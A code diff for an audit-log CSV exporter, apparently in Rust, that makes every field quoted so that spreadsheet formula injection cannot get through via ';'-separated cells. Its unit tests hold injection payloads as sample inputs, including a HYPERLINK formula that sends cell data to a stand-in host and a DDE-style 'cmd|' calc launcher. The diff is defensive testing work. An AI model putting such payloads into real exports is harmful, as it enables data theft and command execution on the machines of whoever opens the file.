@@ -18,8 +18,9 @@ any size. A progress line goes to stderr when it is a terminal.
 
 Formats:
   jsonl (default)  one AuditEntry per line, as the API sends it (see `wt audit list`)
-  csv              RFC 4180 (CRLF line ends, fields with a comma, quote or line break
-                   quoted, quotes doubled), with a header line and the columns
+  csv              RFC 4180 (CRLF line ends, every field quoted, quotes doubled, so a
+                   spreadsheet splitting on `;` cannot cut a cell), with a header line
+                   and the columns
                    seq,occurred_at,actor_type,actor_id,actor_email,action,target_type,
                    target_id,ip,user_agent,outcome,details,prev_hash,hash
                    (details as compact JSON; absent values empty).
@@ -222,19 +223,16 @@ impl<'a> Sink<'a> {
 const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
 /// One CSV field: a value a spreadsheet would run as a formula gets a leading `'` (shown
-/// as text, SECURITY.md #64); then quoted when it holds a comma, a quote or a line break
-/// (quotes doubled). Every value of the CSV export goes through here.
+/// as text, SECURITY.md #64); then always quoted (quotes doubled), so a spreadsheet whose
+/// list separator is `;` (or a tab) cannot split `Mozilla;=HYPERLINK(...)` into a cell
+/// that starts with `=`. Every value of the CSV export goes through here.
 pub fn csv_field(s: &str) -> std::borrow::Cow<'_, str> {
-    let s: std::borrow::Cow<'_, str> = if s.starts_with(FORMULA_STARTS) {
-        format!("'{s}").into()
+    let s = if s.starts_with(FORMULA_STARTS) {
+        format!("'{s}")
     } else {
-        s.into()
+        s.to_string()
     };
-    if s.contains([',', '"', '\n', '\r']) {
-        format!("\"{}\"", s.replace('"', "\"\"")).into()
-    } else {
-        s
-    }
+    format!("\"{}\"", s.replace('"', "\"\"")).into()
 }
 
 /// One entry as a CSV record (no line end), columns as [`CSV_HEADER`].
@@ -317,30 +315,35 @@ mod tests {
     }
 
     #[test]
-    fn csv_fields_are_quoted_only_when_needed() {
-        assert_eq!(csv_field("plain"), "plain");
-        assert_eq!(csv_field(""), "");
+    fn csv_fields_are_always_quoted() {
+        assert_eq!(csv_field("plain"), "\"plain\"");
+        assert_eq!(csv_field(""), "\"\"");
         assert_eq!(csv_field("a,b"), "\"a,b\"");
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
         assert_eq!(csv_field("cr\r"), "\"cr\r\"");
+        // A spreadsheet splitting on `;` still sees one cell, not one starting with `=`.
+        assert_eq!(
+            csv_field("Mozilla;=HYPERLINK(1)"),
+            "\"Mozilla;=HYPERLINK(1)\""
+        );
     }
 
     #[test]
     fn csv_fields_that_a_spreadsheet_would_run_are_neutralised() {
-        assert_eq!(csv_field("=1+2"), "'=1+2");
-        assert_eq!(csv_field("+1"), "'+1");
-        assert_eq!(csv_field("-2"), "'-2");
-        assert_eq!(csv_field("@SUM(A1:A9)"), "'@SUM(A1:A9)");
-        assert_eq!(csv_field("\tx"), "'\tx");
+        assert_eq!(csv_field("=1+2"), "\"'=1+2\"");
+        assert_eq!(csv_field("+1"), "\"'+1\"");
+        assert_eq!(csv_field("-2"), "\"'-2\"");
+        assert_eq!(csv_field("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
+        assert_eq!(csv_field("\tx"), "\"'\tx\"");
         assert_eq!(csv_field("\rx"), "\"'\rx\"");
         assert_eq!(
             csv_field("=HYPERLINK(\"http://evil.example\",\"x\")"),
             "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\""
         );
         // Only the first character counts.
-        assert_eq!(csv_field("a=b"), "a=b");
-        assert_eq!(csv_field("2001:db8::1"), "2001:db8::1");
+        assert_eq!(csv_field("a=b"), "\"a=b\"");
+        assert_eq!(csv_field("2001:db8::1"), "\"2001:db8::1\"");
     }
 
     #[test]
@@ -352,9 +355,9 @@ mod tests {
         let rec = csv_record(&e);
         assert_eq!(
             rec,
-            "5,2026-01-01T00:00:05Z,user,,owner@example.com,member.role_changed,,,192.0.2.1,\
-             \"Mozilla/5.0 (X11, \"\"Linux\"\")\",success,\
-             \"{\"\"from\"\":\"\"viewer\"\",\"\"to\"\":\"\"analyst\"\"}\",h4,h5"
+            "\"5\",\"2026-01-01T00:00:05Z\",\"user\",\"\",\"owner@example.com\",\"member.role_changed\",\"\",\"\",\"192.0.2.1\",\
+             \"Mozilla/5.0 (X11, \"\"Linux\"\")\",\"success\",\
+             \"{\"\"from\"\":\"\"viewer\"\",\"\"to\"\":\"\"analyst\"\"}\",\"h4\",\"h5\""
         );
         assert_eq!(CSV_HEADER.split(',').count(), 14);
     }
@@ -382,7 +385,7 @@ mod tests {
         assert_eq!(lines[0], CSV_HEADER);
         let seqs: Vec<&str> = lines[1..4]
             .iter()
-            .map(|l| l.split(',').next().unwrap_or(""))
+            .map(|l| l.split(',').next().unwrap_or("").trim_matches('"'))
             .collect();
         assert_eq!(seqs, ["11", "12", "13"]);
         assert_eq!(lines.len(), 5, "{:?}", r.out);
@@ -414,8 +417,8 @@ mod tests {
             row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\","),
             "{row}"
         );
-        assert!(row.contains(",'@SUM(1+1)@acme.test,"), "{row}");
-        assert!(row.contains(",'-1+cmd|' /C calc'!A0,"), "{row}");
+        assert!(row.contains(",\"'@SUM(1+1)@acme.test\","), "{row}");
+        assert!(row.contains(",\"'-1+cmd|' /C calc'!A0\","), "{row}");
         // No cell of the row begins with a formula character.
         for cell in row.split(',') {
             let cell = cell.trim_start_matches('"');
